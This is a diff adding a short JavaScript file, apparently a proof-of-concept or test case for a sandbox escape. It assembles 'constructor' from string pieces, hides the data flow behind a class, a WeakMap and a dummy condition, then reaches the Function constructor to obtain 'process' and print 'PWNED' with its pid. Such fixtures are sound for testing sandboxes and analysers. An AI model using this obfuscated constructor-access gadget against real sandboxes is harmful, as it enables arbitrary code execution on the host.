@@ -1,0 +1,10 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+class C { go(f) { return f[w]; } }
+const t = new C();
+t.go({});
+const fn = (x) => x;
+const key = {};
+const m = new WeakMap([[key, t]]);
+const o = Date.now() > 1 ? m.get(key) : {};
+console.log('PWNED', o.go(fn)('return process')().pid);
